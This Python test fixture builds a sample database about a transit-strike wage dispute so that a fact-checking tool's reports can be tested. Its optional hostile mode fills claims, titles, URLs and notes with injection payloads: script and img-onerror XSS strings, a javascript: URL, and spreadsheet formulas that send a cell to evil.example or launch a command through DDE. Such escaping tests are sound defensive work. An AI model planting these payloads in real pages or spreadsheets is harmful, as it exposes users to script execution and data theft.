"""A small dispute database for the report tests, built without extraction or pairing.

Documents and claims go in through Store.save_document; pairs and label events
are rows written straight into their tables, as `factcheck pair` and the review
loop would leave them.
"""
from __future__ import annotations

import json
from pathlib import Path

from claims.model import Claim, Quantity
from factcheck.records import SourceDocument
from factcheck.store import Store

# What a hostile document could carry: markup that runs, and spreadsheet formulas.
SCRIPT = "<script>document.title='PWNED';document.body.appendChild(document.createElement('blink'))</script>"
IMG = "<img src=x onerror=\"document.title='PWNED-IMG'\">"
FORMULAS = ('=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0")


def quantity(text: str, claim_text: str, kind: str, value: float, unit: str, qualifier="exact", counted="") -> Quantity:
    start = claim_text.index(text)
    return Quantity(text, start, start + len(text), kind, value, unit, qualifier, counted)


def save(store: Store, source: str, sentences: list[tuple[str, str, str, tuple]], **meta) -> list[int]:
    """A document made of (sentence, speaker, side, quantities) claims; returns its claim ids in order."""
    text = " ".join(s for s, *_ in sentences)
    claims, offset = [], 0
    for n, (sentence, speaker, side, quantities) in enumerate(sentences):
        claims.append(Claim(sentence, offset, offset + len(sentence), n, speaker, side, 0.9, tuple(quantities)))
        offset += len(sentence) + 1
    _, doc_id = store.save_document(SourceDocument(source=source, text=text, **meta), claims)
    return [c.id for c in store.claims(document_id=doc_id)]


def add_pair(store: Store, a: int, b: int, suggested: str, topic: str, confidence=0.8, reasons=("figures differ",)) -> int:
    with store.transaction() as db:
        return db["pairs"].insert(
            {
                "claim_a": min(a, b),
                "claim_b": max(a, b),
                "similarity": 0.7,
                "suggested_label": suggested,
                "confidence": confidence,
                "reasons": json.dumps(list(reasons)),
                "topic": topic,
                "created_at": "2024-01-01T00:00:00+00:00",
            }
        ).last_pk


WAGE_UNION = "The union says operators earn $27.40 an hour on average."
WAGE_EMPLOYER = "The authority says the average operator earns $31.50 an hour."
RAISE_EMPLOYER = "The authority offered a raise of 8 percent over three years."
RAISE_UNION = "The union says the offer amounts to 2 percent a year."
STRIKE_DAILY = "About 4,000 drivers walked off the job on Monday."
STRIKE_TIMES = "More than 4,200 drivers joined the strike."
TALKS = "Talks are set to resume on Thursday."


def build_dispute(path: Path, hostile: bool = False) -> dict[str, int]:
    """A transit strike told by a union, an employer and two outlets; returns pair ids by name."""
    with Store(path, create=True) as store:
        union = save(
            store,
            "/corpus/union-bulletin.txt",
            [
                (WAGE_UNION, "Local 100", "union", [quantity("$27.40 an hour", WAGE_UNION, "money", 27.40, "USD/hour", counted="hourly wage")]),
                (RAISE_UNION, "Dana Ruiz", "union", [quantity("2 percent", RAISE_UNION, "percent", 2, "percent", counted="raise offered")]),
            ],
            path="/corpus/union-bulletin.txt",
            title="Union bulletin: why we strike",
            publisher="Local 100",
            published="2023-10-02",
        )
        employer = save(
            store,
            "https://transit.example/statement",
            [
                (WAGE_EMPLOYER, "Metro Transit Authority", "employer", [quantity("$31.50 an hour", WAGE_EMPLOYER, "money", 31.50, "USD/hour", counted="hourly wage")]),
                (RAISE_EMPLOYER, "Metro Transit Authority", "employer", [quantity("8 percent", RAISE_EMPLOYER, "percent", 8, "percent", counted="raise offered")]),
            ],
            url="https://transit.example/statement",
            title="Statement on the strike",
            publisher="Metro Transit Authority",
            published="2023-10-05",
        )
        daily = save(
            store,
            "/corpus/daily.txt",
            [
                (STRIKE_DAILY, "Metro Daily", "reporter", [quantity("About 4,000 drivers", STRIKE_DAILY, "count", 4000, "people", "approximately", "workers on strike")]),
                (TALKS, "Metro Daily", "reporter", []),
            ],
            path="/corpus/daily.txt",
            title="Strike day one",
            publisher="Metro Daily",
            published="2023-10-03",
        )
        times = save(
            store,
            "/corpus/times.txt",
            [(STRIKE_TIMES, "Harbor Times", "reporter", [quantity("More than 4,200 drivers", STRIKE_TIMES, "count", 4200, "people", "more than", "workers on strike")])],
            path="/corpus/times.txt",
            title="Strike grows",
            publisher="Harbor Times",
            published="2023-10-04",
        )
        ids = {
            "wage": add_pair(store, union[0], employer[0], "conflict", "wages", 0.9, ("hourly wage: $27.40 vs $31.50",)),
            "raise": add_pair(store, union[1], employer[1], "conflict", "raise offered", 0.85),
            "strike": add_pair(store, daily[0], times[0], "agree", "strike size", 0.6, ("both count about 4,000",)),
            "talks": add_pair(store, daily[1], employer[1], "unverifiable", "talks", 0.4, ("no figure to compare",)),
        }
        store.add_label(ids["wage"], "conflict", "alice", note="Both figures are averages; the union's excludes overtime.")
        store.add_label(ids["wage"], "conflict", "bob")
        store.add_label(ids["strike"], "agree", "alice")
        store.add_label(ids["talks"], "unverifiable", "alice")
        store.add_label(ids["talks"], "agree", "bob")
        if hostile:
            ids.update(_hostile(store, employer[0]))
        return ids


def _hostile(store: Store, other_claim: int) -> dict[str, int]:
    sentences = [
        (f"The union said {SCRIPT} pay is $20 an hour.", f"Mallory {SCRIPT}", 20),
        (f"Staff said {IMG} pay is $21 an hour.", f"Eve {IMG}", 21),
    ] + [(f"{f} pay is $22 an hour.", f, 22) for f in FORMULAS]
    rows = [
        (sentence, speaker, "union", [quantity(f"${value} an hour", sentence, "money", value, "USD/hour", counted="hourly wage")])
        for sentence, speaker, value in sentences
    ]
    claim_ids = save(
        store,
        "/corpus/hostile.txt",
        rows,
        path="/corpus/hostile.txt",
        url="javascript:alert(1)",
        title=f"Hostile {SCRIPT} {IMG}",
        publisher=FORMULAS[0],
        published="2023-10-06",
    )
    ids = {}
    for n, claim_id in enumerate(claim_ids):
        ids[f"hostile{n}"] = add_pair(store, claim_id, other_claim, "conflict", f"wages {IMG}" if n == 0 else "wages", 0.7, (f"reason {SCRIPT}", FORMULAS[1]))
    store.add_label(ids["hostile0"], "conflict", f"rev {IMG}", note=f"note {SCRIPT} {FORMULAS[2]}")
    return ids
